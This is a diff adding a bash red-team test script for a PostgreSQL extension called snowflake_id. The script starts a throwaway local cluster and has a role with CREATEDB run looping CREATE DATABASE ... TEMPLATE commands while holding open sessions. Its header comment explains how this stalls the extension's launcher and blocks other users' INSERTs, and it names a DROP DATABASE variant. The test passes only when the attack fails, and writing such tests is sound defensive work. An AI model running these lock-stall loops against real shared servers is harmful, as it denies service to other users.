@@ -1,0 +1,66 @@
+#!/usr/bin/env bash
+# Red-team attack on the high-water mark: a role with CREATEDB that owns a
+# few (empty) databases (mallory) stalls every round of the high-water
+# launcher, so that snowflake_nextval() hangs or fails server-wide.
+#
+# The launcher writes one database at a time, and its writer's connection
+# takes RowExclusiveLock on the database object in InitPostgres, before
+# WRITER_SETTINGS (lock_timeout) applies, with no timeout at all. CREATE
+# DATABASE x TEMPLATE d takes ShareLock on d, then waits up to 5 s in
+# CountOtherDBBackends for d's other sessions to leave, then fails; mallory
+# keeps one session in d and repeats. Each of her databases delays the
+# round by up to 5 s, and the rounds of a busy server must finish within
+# WAIT_MS (10 s). The extension need not be installed in her databases:
+# the launcher starts a writer in every database that allows connections.
+# Without CREATEDB, the owner of databases gets the same stall from a
+# DROP DATABASE loop (AccessExclusiveLock, then the same 5 s wait): 3
+# databases held every INSERT of the server 4-17 s in our runs.
+#
+# Passes (exit 0) when bob's INSERTs in his database all finish within
+# 15 s; fails (exit 1) while the attack works.
+set -euo pipefail
+source "$(dirname "${BASH_SOURCE[0]}")/../../scripts/lib.sh"
+BASE=$(state_dir "$ROOT/.run/attack-dblock" attack-dblock)
+PORT=${SNOWFLAKE_ATTACK_PORT:-56114}
+DIR="$BASE/c"
+mkdir -p "$DIR"; is_root && chown postgres:postgres "$DIR"
+holders=()
+cleanup() { for p in "${holders[@]}"; do kill "$p" 2>/dev/null || true; done; cluster_stop "$DIR"; }
+trap cleanup EXIT
+cluster_stop "$DIR"
+
+as() {
+    local role="$1" db="$2"; shift 2
+    "$(pgbin)/psql" -X -q -h "$DIR" -p "$PORT" -U "$role" -d "$db" -v ON_ERROR_STOP=1 -At "$@"
+}
+
+cluster_init "$DIR" "$PORT" "shared_preload_libraries = 'snowflake_id'" "snowflake_id.worker_id = 25"
+cluster_up "$DIR"
+as postgres postgres -c "CREATE ROLE mallory LOGIN CREATEDB" -c "CREATE ROLE bob LOGIN" \
+    -c "CREATE DATABASE bobdb OWNER bob" >/dev/null
+as postgres bobdb -c "SET client_min_messages = warning" -c "CREATE EXTENSION snowflake_id" \
+    -c "REVOKE CONNECT ON DATABASE bobdb FROM PUBLIC" >/dev/null
+as bob bobdb -c "CREATE TABLE orders (id bigint PRIMARY KEY DEFAULT snowflake_nextval(), item text)" >/dev/null
+as bob bobdb -c "INSERT INTO orders (item) VALUES ('warm-up')" >/dev/null
+
+# mallory: six empty databases of her own, a session in each, and a
+# CREATE DATABASE ... TEMPLATE loop on each.
+for i in 1 2 3 4 5 6; do
+    as mallory postgres -c "CREATE DATABASE m$i TEMPLATE template0" >/dev/null
+    as mallory "m$i" -c "SELECT pg_sleep(120)" >/dev/null 2>&1 & holders+=($!)
+    ( while :; do as mallory postgres -c "CREATE DATABASE x$i TEMPLATE m$i" >/dev/null 2>&1 || true; done ) &
+    holders+=($!)
+done
+sleep 2
+
+errs=0 last=""
+end=$((SECONDS + 40))
+while [ $SECONDS -lt $end ]; do
+    if ! last=$(as bob bobdb -c "SET statement_timeout = '15s'" \
+                  -c "INSERT INTO orders (item) VALUES ('book') RETURNING id" 2>&1); then
+        errs=$((errs + 1)); log "attack (database lock): bob's INSERT failed: $(echo "$last" | head -1)"
+    fi
+    sleep 0.5
+done
+[ "$errs" = 0 ] || die "attack (database lock) WORKS: mallory's CREATE DATABASE ... TEMPLATE loops stopped bob's INSERTs ($errs failures)"
+log "attack (database lock) refused: bob minted throughout"
